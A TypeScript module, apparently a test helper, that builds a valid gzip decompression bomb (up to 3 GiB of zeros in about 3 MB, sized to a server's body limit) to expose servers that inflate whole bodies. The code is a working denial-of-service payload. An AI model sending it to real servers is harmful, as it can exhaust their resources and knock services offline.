// A gzip member of up to 3 GiB of zero bytes in about 3 MB, built in about a
// second: zlib compresses one MiB of zeros that follows zeros, and that
// deflate block, which only refers back to zeros, is repeated. The member
// is valid to its last byte (CRC-32 and size included), so a server that
// inflates all of it before looking at the size is caught by what it costs,
// not by a corrupt trailer.

import { constants, crc32, createDeflateRaw } from "node:zlib";

const MiB = 1 << 20;

/** Compressed bytes per MiB of zeros, rounded up, for sizing a bomb to a body limit. */
const BYTES_PER_MIB = 1040;
const cache = new Map<number, Promise<Uint8Array>>();

/**
 * One gzip member of up to 3 GiB of zeros that fits in `maxBytes` (a
 * server's max_body_size; 3 GiB takes about 3 MB); built once per size.
 */
export function zeroBomb(maxBytes: number): Promise<Uint8Array> {
  const mebibytes = Math.max(1, Math.min(3072, Math.floor((maxBytes - 64) / BYTES_PER_MIB)));
  let bomb = cache.get(mebibytes);
  if (bomb === undefined) cache.set(mebibytes, (bomb = buildZeroMember(mebibytes)));
  return bomb;
}

async function buildZeroMember(mebibytes: number): Promise<Uint8Array> {
  const zeros = new Uint8Array(MiB);
  const deflate = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on("data", (chunk: Buffer) => out.push(chunk));
  const take = () => Buffer.concat(out.splice(0));
  const flush = () => new Promise<void>((resolve) => deflate.flush(constants.Z_SYNC_FLUSH, () => resolve()));
  deflate.write(zeros);
  await flush();
  const first = take();
  deflate.write(zeros);
  await flush();
  const following = take(); // 1 MiB of zeros after zeros: repeatable
  const ended = new Promise<void>((resolve) => deflate.on("end", () => resolve()));
  deflate.end();
  await ended;
  const last = take(); // the final, empty block
  let crc = 0;
  for (let i = 0; i < mebibytes; i++) crc = crc32(zeros, crc);
  const header = Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff);
  const trailer = new Uint8Array(8);
  const view = new DataView(trailer.buffer);
  view.setUint32(0, crc >>> 0, true);
  view.setUint32(4, (mebibytes * MiB) >>> 0, true);
  const parts = [header, first, ...Array.from({ length: mebibytes - 1 }, () => following), last, trailer];
  return new Uint8Array(Buffer.concat(parts));
}
